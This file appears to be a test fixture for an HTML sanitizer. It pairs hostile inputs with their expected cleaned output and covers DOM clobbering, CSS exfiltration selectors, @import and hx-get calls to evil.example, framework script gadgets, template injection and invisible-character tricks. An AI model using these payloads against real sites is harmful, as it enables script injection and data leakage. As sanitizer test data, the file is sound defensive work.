import { type CaseGroup } from './case.js';

export const names: CaseGroup = {
  name: 'names that would stand for something else',
  cases: [
    ['<a id="config"></a><a id="config" name="url" href="/x">a</a>', '<a></a><a href="/x">a</a>'],
    [
      '<img name="currentScript" src="/a" alt="">',
      '<img src="/a" alt="" loading="lazy" decoding="async" referrerpolicy="strict-origin-when-cross-origin">',
    ],
    ['<p id="__proto__">a</p>', '<p>a</p>'],
    ['<p id="entry-1">a</p>', '<p>a</p>'],
    ['<b name="body" id="location">a</b>', '<b>a</b>'],
    ['<p class="live-blog-entry">a</p>', '<p>a</p>'],
    ['<p part="banner" exportparts="x" slot="banner">a</p>', '<p>a</p>'],
    ['<p is="x-paragraph">a</p>', '<p>a</p>'],
    ['<p itemscope itemref="x" itemprop="y">a</p>', '<p>a</p>'],
    ['<p nonce="x" integrity="y" elementtiming="z">a</p>', '<p>a</p>'],
  ],
};

export const styles: CaseGroup = {
  name: 'styles',
  cases: [
    ['<p style="position:fixed;inset:0;z-index:9999">a</p>', '<p>a</p>'],
    ['<p style="background:url(https://pixel.example/)">a</p>', '<p>a</p>'],
    ['<p style="width:expression(trip())">a</p>', '<p>a</p>'],
    ['<style>*{display:none}</style>a', 'a'],
    ['<style>@import "https://evil.example/x.css";</style>a', 'a'],
    ['<style>[value^="a"]{background:url(https://pixel.example/a)}</style>a', 'a'],
    ['<p bgcolor="red" background="https://pixel.example/" align="right">a</p>', '<p>a</p>'],
    ['<font color="red" face="x" size="7">a</font>', 'a'],
    ['<center>a</center><big>b</big><tt>c</tt>', 'abc'],
    ['<marquee onstart="trip()">x</marquee>a', 'a'],
    [
      '<table width="9999" border="9" background="https://pixel.example/"><tbody><tr><td>a</td></tr></tbody></table>',
      '<table><tbody><tr><td>a</td></tr></tbody></table>',
    ],
    ['<td background="javascript:trip()">a</td>', 'a'],
    ['<hr size="9999" color="red">', '<hr>'],
    ['<p hidden>a</p>', '<p>a</p>'],
  ],
};

export const gadgets: CaseGroup = {
  name: 'what scripts of the page might take for theirs',
  cases: [
    ['<p data-bind="html: trip()">a</p>', '<p>a</p>'],
    ['<p x-data="{}" x-init="trip()" x-html="trip()">a</p>', '<p>a</p>'],
    ['<p v-html="trip()" v-on:click="trip()" @click="trip()" :title="trip()">a</p>', '<p>a</p>'],
    ['<p ng-app ng-init="trip()" ng-click="trip()">a</p>', '<p>a</p>'],
    ['<p hx-get="https://evil.example/" hx-trigger="load" hx-on:click="trip()">a</p>', '<p>a</p>'],
    ['<p data-hx-get="/x" data-turbo-method="delete" data-action="x#y">a</p>', '<p>a</p>'],
    [
      '<p data-toggle="tooltip" data-html="true" title="{{trip()}}">a</p>',
      '<p title="{{trip()}}">a</p>',
    ],
    ['<p up-target="body" unpoly jsaction="click:trip">a</p>', '<p>a</p>'],
    ['<a href="/x" data-remote="true" data-method="delete">a</a>', '<a href="/x">a</a>'],
    ['<p wire:click="trip" livewire:x="y">a</p>', '<p>a</p>'],
    ['{{constructor.constructor("trip()")()}}', '{{constructor.constructor("trip()")()}}'],
    ['${trip()} <%= trip() %>', '${trip()} &lt;%= trip() %&gt;'],
    ['<template><p onclick="trip()">x</p></template>a', 'a'],
    ['<template shadowrootmode="open"><script>trip()</script></template>a', 'a'],
    ['<p><template shadowrootmode="open"><b>x</b></template>a</p>', '<p>a</p>'],
    ['<slot name="header">x</slot>a', 'a'],
    ['<live-blog src="https://evil.example/">x</live-blog>a', 'a'],
    ['<x-y onclick="trip()">x</x-y>a', 'a'],
    ['<amp-img src="x"></amp-img><fb:like>x</fb:like>a', 'a'],
    ['<p translate="no" spellcheck="false" virtualkeyboardpolicy="manual">a</p>', '<p>a</p>'],
  ],
};

export const structure: CaseGroup = {
  name: 'structure that is the page’s, and characters that are not seen',
  cases: [
    ['<h1>a</h1>', '<h4>a</h4>'],
    ['<h6>a</h6>', '<h6>a</h6>'],
    ['<main><nav><aside>a</aside></nav></main>', 'a'],
    ['<header>a</header><footer>b</footer>', 'ab'],
    ['<address>a</address><hgroup><h2>b</h2></hgroup>', 'a<h4>b</h4>'],
    ['<p role="alert" aria-live="assertive">a</p>', '<p>a</p>'],
    ['<p lang="en\u0000" dir="rtl">a</p>', '<p lang="en\ufffd" dir="rtl">a</p>'],
    ['a\u0000b', 'ab'],
    ['\ufeff<b>a</b>', '\ufeff<b>a</b>'],
    ['<b\u0000>a</b>', ''],
    ['<\u200bscript>trip()</script>', '&lt;\u200bscript&gt;trip()'],
    ['\u202e<b>a</b>', '\u202e<b>a</b>'],
    ['<p>a<p>b', '<p>a</p><p>b</p>'],
    ['<b><p>a</b>b</p>', '<b></b><p><b>a</b>b</p>'],
    ['<table><tr><td>a</table>', '<table><tbody><tr><td>a</td></tr></tbody></table>'],
    ['<ul><li>a<li>b</ul>', '<ul><li>a</li><li>b</li></ul>'],
  ],
};
